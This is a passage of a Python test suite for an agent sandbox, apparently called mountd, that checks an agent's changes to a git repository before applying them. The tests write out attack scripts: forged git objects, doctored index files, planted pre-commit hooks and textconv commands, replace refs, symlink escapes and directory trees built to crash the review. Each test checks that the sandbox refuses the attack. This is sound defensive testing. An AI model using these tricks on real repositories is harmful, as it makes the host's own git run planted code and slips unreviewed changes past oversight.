rows.append((0o040000, tree, name + "/", True))
rows.sort(key=lambda row: row[2].encode())
body = b""
for mode, oid, path, sparse in rows:
    raw = path.encode()
    entry = struct.pack(">10I", 0, 0, 0, 0, 0, 0, mode, 0, 0, 0) + bytes.fromhex(oid)
    fixed = 64 if sparse else 62
    entry += struct.pack(">HH", len(raw) | 0x4000, 0x4000) if sparse else struct.pack(">H", len(raw))
    entry += raw
    body += entry + b"\\0" * ((fixed + len(raw) + 8) // 8 * 8 - fixed - len(raw))
data = b"DIRC" + struct.pack(">II", 3, len(rows)) + body + b"sdir" + struct.pack(">I", 0)
open(out, "wb").write(data + hashlib.sha1(data).digest())
"""


def packed_repo(root: Path) -> Path:
    repo = make_repo(root)
    git(repo, "gc", "-q")
    return repo


def test_a_forged_object_in_place_of_a_packed_one_is_refused(tmp_path: Path, marker: Path) -> None:
    repo = packed_repo(tmp_path / "repo")
    script = (
        "set -e; cp .git/objects/pack/*.pack /tmp/p.pack; rm .git/objects/pack/pack-*; "
        "git unpack-objects -q < /tmp/p.pack; id=$(git rev-parse HEAD:run.sh); "
        "f=.git/objects/$(echo $id | cut -c1-2)/$(echo $id | cut -c3-); chmod u+w $f; "
        "python3 -c 'import sys, zlib; c = b\"#!/bin/sh\\ntouch " + str(marker) + '\\n"; '
        'open(sys.argv[1], "wb").write(zlib.compress(b"blob %d\\0" % len(c) + c))\' $f'
    )
    copy = potent(repo, tmp_path, script)
    assert "touch" in host_git(copy, "show", "HEAD:run.sh").stdout  # the attack is real

    before = manifest(repo)
    done = mountd_run("--apply", "--", "sh", "-c", script, cwd=repo)
    assert done.returncode == 0, done.stderr
    lines = summary_lines(done.stderr)
    assert any(
        line.startswith("  /.git: ")
        and "changes of git's own files (refused: apply never deletes git's objects" in line
        for line in lines
    ), lines
    assert any("its content is not the object its name says (forged)" in line for line in lines)
    assert host_git(repo, "show", "HEAD:run.sh").stdout == "#!/bin/sh\necho run\n"
    git(repo, "fsck", "--strict")
    assert {p: v for p, v in manifest(repo).items() if "/objects/" not in p} == {
        p: v for p, v in before.items() if "/objects/" not in p
    }


def test_an_index_is_applied_without_the_cached_trees_it_came_with(
    repo: Path, marker: Path, tmp_path: Path
) -> None:
    """An index whose cached trees (the TREE extension) lie about its entries: the user's next
    commit of an unrelated file would take the agent's tree for every other directory."""
    script = (
        "set -e; cp .git/index /tmp/A; cp docs/guide.md /tmp/o; "
        f"echo 'touch {marker}' > docs/guide.md; git add docs/guide.md; git write-tree >/dev/null; "
        f"cp .git/index /tmp/B; cp /tmp/o docs/guide.md; python3 -c '{GRAFT}' /tmp/A /tmp/B .git/index"
    )
    git(repo, "write-tree")  # (a fresh index with its cached trees, as after any commit)
    # (Only through the sandbox is the attack whole: there the restored file is no change, so
    # the host's file keeps the times its index entry records, and git trusts the lie.)
    done = mountd_run("--apply", "--", "sh", "-c", script, cwd=repo)
    assert done.returncode == 0, done.stderr
    assert "(refused" not in done.stderr
    assert b"TREE" not in (repo / ".git" / "index").read_bytes()  # git rebuilt it: no cache
    (repo / "README.md").write_text("# edited\n")
    assert host_git(repo, "status", "--porcelain").stdout == " M README.md\n"
    assert host_git(repo, "commit", "-q", "-am", "readme").returncode == 0
    assert host_git(repo, "show", "HEAD:docs/guide.md").stdout == "# guide\n"


def test_a_sparse_index_is_refused(repo: Path) -> None:
    script = (
        "set -e; b=$(echo evil | git hash-object -w --stdin); "
        "t=$(printf '100644 blob %s\\tMakefile\\n' $b | git mktree); "
        f"python3 -c '{SPARSE}' .git/index $t build "
        "100644 $(git rev-parse HEAD:README.md) README.md"
    )
    index = (repo / ".git" / "index").read_bytes()
    done = mountd_run("--apply", "--", "sh", "-c", script, cwd=repo)
    assert done.returncode == 0, done.stderr
    assert any(
        line.startswith("  M /.git/index (refused: git cannot read this index: ")
        for line in summary_lines(done.stderr)
    ), done.stderr
    assert (repo / ".git" / "index").read_bytes() == index


def test_a_symlink_staged_without_the_work_tree_is_refused(repo: Path, tmp_path: Path) -> None:
    target = tmp_path / "victim"
    script = (
        f"b=$(printf {target} | git hash-object -w --stdin); "
        "git update-index --add --cacheinfo 120000,$b,build.log"
    )
    done = mountd_run("--apply", "--", "sh", "-c", script, cwd=repo)
    assert done.returncode == 0, done.stderr
    assert (
        "  M /.git/index (refused: the index stages a symlink at 'build.log' that the work tree "
        "does not hold)" in summary_lines(done.stderr)
    )
    host_git(repo, "restore", ".")
    assert not (repo / "build.log").is_symlink()


def test_a_symlink_through_a_name_not_there_yet_is_refused(tmp_path: Path) -> None:
    tree = tmp_path / "tree"
    tree.mkdir()
    done = mountd_run("--apply", "--", "sh", "-c", "ln -s m/../../x build.log", cwd=tree)
    assert done.returncode == 0, done.stderr
    assert any("(refused: a symlink out of the tree" in line for line in summary_lines(done.stderr))
    assert not (tree / "build.log").is_symlink()


def test_a_repository_made_across_two_runs_is_refused(repo: Path, marker: Path) -> None:
    first = mountd_run(
        "--apply", "--", "sh", "-c",
        f"mkdir tools && printf '[core]\\n\\tpager = \"touch {marker}; cat\"\\n' > tools/config",
        cwd=repo,
    )  # fmt: skip
    assert first.returncode == 0, first.stderr
    assert (repo / "tools" / "config").exists()  # not a git directory: a file like another
    second = mountd_run(
        "--apply", "--", "sh", "-c",
        "cd tools && echo 'ref: refs/heads/main' > HEAD && mkdir objects refs && touch refs/x",
        cwd=repo,
    )  # fmt: skip
    assert second.returncode == 0, second.stderr
    assert any(
        line.startswith("  A /tools/HEAD (refused: /tools becomes a git directory here")
        for line in summary_lines(second.stderr)
    ), second.stderr
    assert not (repo / "tools" / "HEAD").exists()


def test_a_rewritten_stash_reflog_is_refused(repo: Path) -> None:
    (repo / "README.md").write_text("# stashed\n")
    git(repo, "stash", "-q")
    reflog = (repo / ".git" / "logs" / "refs" / "stash").read_bytes()
    script = (
        "set -e; echo evil > run.sh; c=$(git stash create); git checkout -q run.sh; "
        'old=$(git rev-parse refs/stash); sed -i "s/ $old / $c /" .git/logs/refs/stash'
    )
    done = mountd_run("--apply", "--", "sh", "-c", script, cwd=repo)
    assert done.returncode == 0, done.stderr
    assert any(
        "a reflog rewritten, not appended to" in line for line in summary_lines(done.stderr)
    ), done.stderr
    assert (repo / ".git" / "logs" / "refs" / "stash").read_bytes() == reflog


def test_replace_refs_are_refused_and_merge_heads_are_named(repo: Path) -> None:
    script = (
        "set -e; n=$(echo evil | git hash-object -w --stdin); git replace $(git rev-parse "
        "HEAD:run.sh) $n; git rev-parse HEAD > .git/MERGE_HEAD"
    )
    done = mountd_run("--apply", "--", "sh", "-c", script, cwd=repo)
    assert done.returncode == 0, done.stderr
    lines = summary_lines(done.stderr)
    assert any(
        line.startswith("  A /.git/refs/replace/")
        and "(refused: replace refs change what existing commits and files mean" in line
        for line in lines
    ), lines
    assert any(line.startswith("    MERGE_HEAD: made, ") for line in lines), lines
    assert host_git(repo, "show", "HEAD:run.sh").stdout == "#!/bin/sh\necho run\n"


def test_an_index_emptied_by_the_agent_is_applied_as_git_rebuilds_it(repo: Path) -> None:
    done = mountd_run("--apply", "--", "sh", "-c", "git rm -r -q --cached .", cwd=repo)
    assert done.returncode == 0, done.stderr
    assert "(refused" not in done.stderr
    assert host_git(repo, "ls-files").stdout == ""
    assert host_git(repo, "status", "--porcelain").stdout.count("??") == 3  # all untracked


# --- 11: a tree made to stop the review -----------------------------------------------------------


def test_a_tree_built_to_crash_the_review_is_still_reviewed_and_applied(
    deep_tmp_path: Path,
) -> None:
    # Directories deeper than Python's recursion limit, and a symlink whose target no tree can
    # hold (a name past 255 bytes), had stopped the review with a traceback: no summary, no
    # apply, and the session left behind crashed every `--resume` the same way.
    root = deep_tmp_path / "project"
    root.mkdir()
    (root / "a").write_text("x\n")
    script = (
        "set -e; echo work >> a; ln -s $(printf '%0300d' 0) long; "
        "i=0; while [ $i -lt 1100 ]; do mkdir d && cd d; i=$((i+1)); done"
    )
    done = mountd_run("--apply", "--", "sh", "-c", script, cwd=root, timeout=300)
    assert done.returncode == 0, done.stderr[-2000:]
    assert (root / "a").read_text() == "x\nwork\n"
    assert not (root / "long").is_symlink()  # refused: it can never name anything
    assert "mountd run: not applied (refused, see above): /long" in done.stderr
    depth = 0
    probe = root
    while (probe / "d").is_dir():
        probe, depth = probe / "d", depth + 1
    assert depth == 1100
    again = mountd_run("--", "true", cwd=root)  # no session was left behind
    assert again.returncode == 0, again.stderr


def test_a_tree_deeper_than_python_s_limit_leaves_no_session_behind(deep_tmp_path: Path) -> None:
    root = deep_tmp_path / "project"
    root.mkdir()
    (root / "a").write_text("x\n")
    deep = "i=0; while [ $i -lt 1500 ]; do mkdir d && cd d; i=$((i+1)); done"
    done = mountd_run("--", "sh", "-c", deep, cwd=root, timeout=300)
    assert done.returncode == 0, done.stderr[-2000:]
    again = mountd_run("--fresh", "--", "sh", "-c", deep, cwd=root, timeout=300)
    assert again.returncode == 0, again.stderr[-2000:]
    last = mountd_run("--", "true", cwd=root)  # neither run left its session
    assert last.returncode == 0, last.stderr
    assert sorted(os.listdir(root)) == ["a"]


# --- 12: what the host's own git configuration runs from the work tree ----------------------------


@pytest.mark.parametrize(
    "setup",
    [
        pytest.param(["core.hooksPath", ".githooks"], id="hooksPath"),
        pytest.param(["core.hooksPath", "tools/hooks"], id="hooksPath-nested"),
        pytest.param(["include.path", "../.gitconfig"], id="included-config"),
    ],
)
def test_what_the_host_s_git_runs_from_the_work_tree_is_refused(
    repo: Path, marker: Path, tmp_path: Path, setup: list[str]
) -> None:
    # Husky, lefthook-style .githooks and shared .gitconfig files: the host's configuration
    # (which the agent cannot change) points git at files in the work tree (which it can).
    key, value = setup
    if key == "include.path":
        (repo / ".gitconfig").write_text("[user]\n\tname = shared\n")
        script = (
            "printf '[core]\\n\\thooksPath = hooks\\n' >> .gitconfig; mkdir hooks; "
            f"{hook(marker)} hooks/pre-commit; chmod +x hooks/pre-commit"
        )
        planted = "/.gitconfig"
    else:
        hooks = repo / value
        hooks.mkdir(parents=True)
        (hooks / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
        (hooks / "pre-commit").chmod(0o755)
        script = f"{hook(marker)} {value}/pre-commit"
        planted = f"/{value}/pre-commit"
    git(repo, "config", key, value)
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "shared set-up")
    copy = potent(repo, tmp_path, script)
    assert host_git(copy, "commit", "-q", "--allow-empty", "-m", "x").returncode == 0
    assert marker.exists()  # the attack is real: written, the hook runs on the next commit
    marker.unlink()

    done = mountd_run("--apply", "--", "sh", "-c", "set -e; " + script, cwd=repo)
    assert done.returncode == 0, done.stderr
    refused = [line for line in summary_lines(done.stderr) if line.startswith(f"  M {planted} ")]
    assert refused and "(refused: git " in refused[0], done.stderr
    assert host_git(repo, "commit", "-q", "--allow-empty", "-m", "host").returncode == 0
    assert not marker.exists()


@pytest.mark.parametrize(
    ("config", "planted", "plant"),
    [
        pytest.param(
            ["diff.lock.textconv", "./scripts/conv.sh"], "/scripts/conv.sh",
            "printf '#!/bin/sh\\ntouch {marker}\\ncat \"$1\"\\n' > scripts/conv.sh",
            id="textconv",
        ),
        pytest.param(
            ["diff.lock.textconv", "python3 -m conv"], "/conv.py",
            "printf 'import sys\\nopen(\"{marker}\", \"w\")\\n"
            "sys.stdout.write(open(sys.argv[1]).read())\\n' > conv.py",
            id="python-module",
        ),
    ],
)  # fmt: skip
def test_a_command_the_host_s_git_runs_from_the_work_tree_is_refused(
    repo: Path, marker: Path, tmp_path: Path, config: list[str], planted: str, plant: str
) -> None:
    (repo / "scripts").mkdir()
    (repo / "scripts" / "conv.sh").write_text('#!/bin/sh\ncat "$1"\n')
    (repo / "scripts" / "conv.sh").chmod(0o755)
    (repo / ".gitattributes").write_text("*.lock diff=lock\n")
    (repo / "deps.lock").write_text("v1\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "a textconv")
    git(repo, "config", *config)
    script = plant.format(marker=marker) + "; echo v2 > deps.lock"
    copy = potent(repo, tmp_path, script)
    host_git(copy, "diff", "deps.lock")
    assert marker.exists()  # the attack is real: written, the host's git diff runs it
    marker.unlink()

    done = mountd_run("--apply", "--", "sh", "-c", script, cwd=repo)
    assert done.returncode == 0, done.stderr
    assert f"mountd run: not applied (refused, see above): {planted}" in done.stderr
    assert "(refused: git runs this as diff.lock.textconv (in " in done.stderr
    assert (repo / "deps.lock").read_text() == "v2\n"  # the rest is applied
    host_git(repo, "diff", "deps.lock")
    assert not marker.exists()


def test_a_symlink_in_place_of_the_hooks_directory_s_parent_is_refused(
    repo: Path, marker: Path
) -> None:
    hooks = repo / "tools" / "hooks"
    hooks.mkdir(parents=True)
    (hooks / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    (hooks / "pre-commit").chmod(0o755)
    git(repo, "config", "core.hooksPath", "tools/hooks")
    script = (
        f"set -e; mkdir -p evil/hooks; {hook(marker)} evil/hooks/pre-commit; "
        "chmod +x evil/hooks/pre-commit; rm -rf tools; ln -s evil tools"
    )
    done = mountd_run("--apply", "--", "sh", "-c", script, cwd=repo)
    assert done.returncode == 0, done.stderr
    assert "refused: git runs the hooks here (core.hooksPath in " in done.stderr
    assert not (repo / "tools").is_symlink()
    assert host_git(repo, "commit", "-q", "--allow-empty", "-m", "host").returncode == 0
    assert not marker.exists()


# --- 13: refs git could no longer read ----------------------------------------------------------


def test_refs_as_git_writes_them_are_applied(repo: Path, tmp_path: Path) -> None:
    # An annotated tag, a remote's symbolic HEAD, everything packed: what real sessions write.
    script = (
        "set -e; git tag -a -m t v1; git branch side; "
        "git symbolic-ref refs/remotes/origin/HEAD refs/remotes/origin/main; "
        "git update-ref refs/remotes/origin/main HEAD; git pack-refs --all; "
        "git checkout -q side; git commit -q --allow-empty -m more"
    )
    done = mountd_run("--apply", "--", "sh", "-c", script, cwd=repo)
    assert done.returncode == 0, done.stderr
    assert "(refused" not in done.stderr, done.stderr
    assert host_git(repo, "tag").stdout == "v1\n"
    assert host_git(repo, "symbolic-ref", "HEAD").stdout == "refs/heads/side\n"
    assert host_git(repo, "cat-file", "-t", "v1").stdout == "tag\n"
    git(repo, "fsck", "--strict")


@pytest.mark.parametrize(
    ("script", "refused"),
    [
        (r"printf 'ref: refs/heads/\377\n' > .git/HEAD", "/.git/HEAD"),
        ("echo garbage > .git/HEAD", "/.git/HEAD"),
        ("echo 'ref: ../../outside' > .git/HEAD", "/.git/HEAD"),
        ("printf '# pack-refs with: peeled\\nzzzz refs/heads/zz\\n' > .git/packed-refs",
         "/.git/packed-refs"),
        ("git pack-refs --all; sed -i 's/ refs/ refs\\/x..y/' .git/packed-refs",
         "/.git/packed-refs"),
        ("echo nonsense > .git/refs/heads/main", "/.git/refs/heads/main"),
        ("git rev-parse HEAD > '.git/refs/heads/a..b'", "/.git/refs/heads/a..b"),
    ],
)  # fmt: skip
def test_refs_git_cannot_read_are_refused(repo: Path, script: str, refused: str) -> None:
    before = manifest(repo)
    done = mountd_run("--apply", "--", "sh", "-c", script, cwd=repo)
    assert done.returncode == 0, done.stderr
    assert f"mountd run: not applied (refused, see above): {refused}" in done.stderr
    assert host_git(repo, "status").returncode == 0
    assert host_git(repo, "log", "--oneline").stdout.count("\n") == 1
    assert {path: entry for path, entry in manifest(repo).items() if ".git" not in path} == {
        path: entry for path, entry in before.items() if ".git" not in path
    }
